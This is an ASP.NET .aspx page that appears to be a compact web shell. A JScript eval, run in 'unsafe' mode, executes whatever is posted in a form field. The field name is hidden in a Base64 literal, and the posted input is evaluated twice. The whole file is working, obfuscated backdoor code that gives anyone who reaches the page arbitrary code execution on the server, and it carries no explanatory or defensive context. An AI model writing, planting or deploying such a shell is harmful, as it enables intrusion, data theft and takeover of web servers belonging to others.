<%@ Page Language="C#" %>
<script runat="server" language="JScript">
function run(s) { var u = "un"; var m = u + "safe"; return eval(s, m); }
</script>
<%
// the page's input is named only inside the Base64 literal
run(run(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("UmVxdWVzdC5Gb3JtWyJxIl0="))));
%>
